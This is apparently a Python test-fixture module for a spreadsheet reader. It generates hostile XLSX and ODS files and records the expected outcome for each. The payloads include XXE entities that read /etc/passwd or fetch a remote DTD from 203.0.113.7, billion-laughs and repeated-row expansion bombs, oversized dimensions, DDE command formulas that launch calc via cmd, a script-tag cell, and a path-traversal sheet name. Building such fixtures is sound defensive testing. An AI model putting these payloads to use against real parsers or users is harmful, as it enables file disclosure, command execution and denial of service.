# SPDX-License-Identifier: Apache-2.0
"""Workbooks whose XML would harm: entities, endless sizes, wrong references, evil cells."""

from __future__ import annotations

import zipfile
from typing import TYPE_CHECKING, Any

from . import xlsx
from .containers import zipped
from .hostile_packages import NAMES, ROWS, made, package
from .model import Hostile, Sheet, letter
from .other_formats import write_ods

if TYPE_CHECKING:
    from pathlib import Path

_DATA = xlsx.sheet_data(ROWS)
_LAUGHS = (
    '<!DOCTYPE z [<!ENTITY a "haha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(10))
    + "]>"
)


def _sheet(
    name: str, inner: str, outcome: str, *, before: str = "", book: str = "", **more: Any
) -> Hostile:
    def build(folder: Path) -> Path:
        part = xlsx.worksheet(inner, before=before)
        return xlsx.package(folder / name, {"Sheet1": part}, styles=xlsx.DATE_STYLES, book=book)

    return Hostile(name, build, outcome, **more)


def _with_row(cells: str, row: int = 4) -> str:
    return _DATA.replace("</sheetData>", f'<row r="{row}">{cells}</row></sheetData>')


def _named(text: str) -> str:
    """Give a fourth row with this XML as its name."""
    return _with_row(f'<c r="B4" t="inlineStr"><is><t>{text}</t></is></c>')


def _entities() -> list[Hostile]:
    secret = '<!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    web = '<!DOCTYPE z [<!ENTITY x SYSTEM "http://203.0.113.7/x">]>'
    parameter = '<!DOCTYPE z [<!ENTITY % x SYSTEM "http://203.0.113.7/x.dtd"> %x;]>'
    square = f'<!DOCTYPE z [<!ENTITY x "{"A" * 100_000}">]>'
    return [
        _sheet("entities_laughs.xlsx", _named("&k;"), "either", before=_LAUGHS,
               absent=("hahahahahaha",)),
        _sheet("entities_square.xlsx", _named("&x;" * 20_000), "either", before=square,
               absent=("AAAAAAAAAAAAAAAAAAAA",)),
        _sheet("entities_file.xlsx", _named("&x;"), "either", before=secret, absent=("root:x",)),
        _sheet("entities_web.xlsx", _named("&x;"), "either", before=web),
        _sheet("entities_parameter.xlsx", _DATA, "either", before=parameter, names=NAMES),
        _shared_laughs(),
    ]  # fmt: skip


def _shared_laughs() -> Hostile:
    name = "entities_shared_strings.xlsx"
    shared = f'{xlsx.HEAD}{_LAUGHS}<sst xmlns="{xlsx.MAIN}"><si><t>&k;</t></si></sst>'
    inner = _with_row('<c r="B4" t="s"><v>0</v></c>')

    def build(folder: Path) -> Path:
        return xlsx.package(folder / name, {"Sheet1": xlsx.worksheet(inner)}, shared=shared)

    return Hostile(name, build, "either", absent=("hahahahahaha",))


def _sizes() -> list[Hostile]:
    merges = "".join(f'<mergeCell ref="F{n}:G{n}"/>' for n in range(1, 60_001))
    wide = "".join(xlsx.cell(f"{letter(n)}4", "x") for n in range(4, 16_385))
    corner = '<c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'
    whole = '<dimension ref="A1:XFD1048576"/>'
    return [
        _sheet("size_declared.xlsx", whole + _DATA, "rows", names=NAMES),
        _sheet("size_far_corner.xlsx", _with_row(corner, 1_048_576), "either", names=NAMES),
        _sheet("size_far_row_and_column.xlsx",
               _with_row('<c r="A1048576" t="inlineStr"><is><t>x</t></is></c>', 1_048_576)
               .replace("</row>", xlsx.cell("XFD1", "x") + "</row>", 1), "either", names=NAMES),
        _sheet("size_beyond_excel.xlsx",
               _with_row('<c r="ZZZZZZ99999999999" t="str"><v>x</v></c>', 2**40), "either"),
        _sheet("size_many_merges.xlsx",
               f'{_DATA}<mergeCells count="60000">{merges}</mergeCells>', "rows", names=NAMES),
        _sheet("size_one_merge_of_all.xlsx",
               f'{_DATA}<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>', "either",
               names=NAMES),
        _sheet("size_wide_row.xlsx", _with_row(wide), "rows", names=NAMES),
        _sheet("size_deep_nesting.xlsx", _DATA + "<a>" * 200_000 + "</a>" * 200_000, "either"),
        _many_rows(),
        _many_sheets(),
    ]  # fmt: skip


def _many_rows() -> Hostile:
    """Give every row of a sheet a number and nothing else."""
    name = "size_every_row.xlsx"

    def build(folder: Path) -> Path:
        lines = "".join(
            f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(4, 1_048_577)
        )
        inner = _DATA.replace("</sheetData>", lines + "</sheetData>")
        return xlsx.package(folder / name, {"Sheet1": xlsx.worksheet(inner)})

    return Hostile(name, build, "either", names=NAMES)


def _many_sheets() -> Hostile:
    name = "size_many_sheets.xlsx"

    def build(folder: Path) -> Path:
        sheets = {f"S{n}": xlsx.worksheet("<sheetData/>") for n in range(3000)}
        return xlsx.package(folder / name, {"DS": xlsx.worksheet(_DATA), **sheets})

    return Hostile(name, build, "either", names=NAMES)


def _cells() -> list[Hostile]:
    evil = "=cmd|' /C calc'!A0"
    controls = "Ma_x0000_i _x0007_Thị &#9;Ngọc"
    formula = f'<c r="B4" t="str"><f>cmd|\' /C calc\'!A0</f><v>{NAMES[0]}</v></c>'
    numbers = [("nan", "NaN"), ("infinite", "INF"), ("huge", "1e400"), ("far_day", "9e15"),
               ("before_time", "-1e9"), ("words", "mười hai")]  # fmt: skip
    return [
        _sheet("cell_32767.xlsx", _named("Ă" * 32_767), "rows", names=NAMES),
        _sheet("cell_four_million.xlsx", _named("B" * 4_000_000), "either", names=NAMES),
        _sheet("cell_control_signs.xlsx", _named(controls), "rows", names=NAMES),
        _sheet("cell_null_reference.xlsx", _named("A&#0;B"), "either"),
        _sheet("cell_raw_controls.xlsx", _named("A\x01\x02\x1fB"), "either"),
        _sheet("cell_command.xlsx", _named(evil), "rows", names=NAMES),
        _sheet("cell_command_formula.xlsx", _with_row(formula), "rows", names=NAMES),
        _sheet("cell_string_out_of_range.xlsx", _with_row('<c r="B4" t="s"><v>999999</v></c>'),
               "either"),
        _sheet("cell_string_negative.xlsx", _with_row('<c r="B4" t="s"><v>-1</v></c>'), "either"),
        _sheet("cell_unknown_type.xlsx", _with_row('<c r="B4" t="wxyz"><v>1</v></c>'), "either"),
        _sheet("cell_unknown_style.xlsx", _with_row('<c r="B4" s="99999"><v>1</v></c>'), "either"),
        _sheet("cell_row_zero.xlsx", _with_row('<c r="B0"><v>1</v></c>', 0), "either"),
        _sheet("cell_rows_backwards.xlsx", _with_row('<c r="B2"><v>1</v></c>', 2), "either"),
        _sheet("cell_markup_name.xlsx",
               _named("&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x&gt;"), "rows",
               names=NAMES),
        _sheet("cell_right_to_left.xlsx", _named("Hoa \u202egnoR\u202c \u2066x\u2069"), "rows",
               names=NAMES),
        *(_sheet(f"cell_number_{kind}.xlsx",
                 _with_row(f'<c r="A4" s="1"><v>{text}</v></c>'
                           f'<c r="B4" t="inlineStr"><is><t>Lò Thị Số</t></is></c>'), "either")
          for kind, text in numbers),
    ]  # fmt: skip


def _books() -> list[Hostile]:
    dark = xlsx.workbook(["../../../etc/passwd\u202e<b>"])
    loop = xlsx.workbook(["Sheet1"]).replace("rId1", "rId999")
    return [
        _sheet("book_sheet_name.xlsx", _DATA, "rows", book=dark, names=NAMES),
        _sheet("book_dangling_sheet.xlsx", _DATA, "refused", book=loop),
        _not_utf8(),
        _links(),
        *_documents(),
    ]


def _not_utf8() -> Hostile:
    part = xlsx.worksheet(_DATA).encode().replace(b"A02", b"A\xff\xfe\xc3")
    sheet = {"xl/worksheets/sheet1.xml": part}
    return made("book_not_utf8.xlsx", lambda: zipped(package(**sheet)), "either")


def _links() -> Hostile:
    """Give links, a web query and an outside workbook: nothing is followed."""
    name = "book_links.xlsx"
    inner = f'{_DATA}<hyperlinks><hyperlink ref="B2" r:id="rId1"/></hyperlinks>'
    links = (
        f'{xlsx.HEAD}<Relationships xmlns="{xlsx.PACKAGE}"><Relationship Id="rId1" '
        f'Type="{xlsx.RELS}/hyperlink" Target="file://203.0.113.7/share/x" TargetMode="External"/>'
        "</Relationships>"
    )
    outside = (
        f'{xlsx.HEAD}<externalLink xmlns="{xlsx.MAIN}"><ddeLink ddeService="cmd"/></externalLink>'
    )

    def build(folder: Path) -> Path:
        return xlsx.package(
            folder / name,
            {"Sheet1": xlsx.worksheet(inner)},
            extra={"xl/worksheets/_rels/sheet1.xml.rels": links,
                   "xl/externalLinks/externalLink1.xml": outside},
        )  # fmt: skip

    return Hostile(name, build, "rows", names=NAMES)


def _documents() -> list[Hostile]:
    """Give OpenDocument sheets that grow when they are read."""
    cell = '<table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'
    repeated = cell.replace("<table:table-cell ",
                            '<table:table-cell table:number-columns-repeated="16384" ')  # fmt: skip
    bomb = f'<table:table-row table:number-rows-repeated="1048576">{repeated}</table:table-row>'
    wild = bomb.replace("1048576", "99999999999999999999")
    return [
        _ods("ods_repeat_bomb.ods", "</table:table>", bomb + "</table:table>", "either"),
        _ods("ods_repeat_overflow.ods", "</table:table>", wild + "</table:table>", "either"),
        _ods("ods_laughs.ods", "<office:document-content", _LAUGHS + "<office:document-content",
             "either", within="&k;"),
        _ods("ods_cut.ods", "</office:spreadsheet>", "", "either"),
        made("ods_only_type.ods", lambda: b"PK\x05\x06" + bytes(18), "refused"),
    ]  # fmt: skip


def _ods(name: str, old: str, new: str, outcome: str, *, within: str = "") -> Hostile:
    def build(folder: Path) -> Path:
        path = write_ods(folder / name, Sheet("Sheet1", ROWS))
        with zipfile.ZipFile(path) as archive:
            content = archive.read("content.xml").decode()
            parts = {n: archive.read(n) for n in archive.namelist() if n != "content.xml"}
        changed = content.replace(old, new, 1)
        if within:
            changed = changed.replace(f"<text:p>{NAMES[0]}", f"<text:p>{within}", 1)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for part, data in parts.items():
                archive.writestr(part, data)
            archive.writestr("content.xml", changed)
        return path

    return Hostile(name, build, outcome, absent=("hahahahahaha",))


def fixtures() -> list[Hostile]:
    """Give the hostile files of this theme."""
    return [*_entities(), *_sizes(), *_cells(), *_books()]
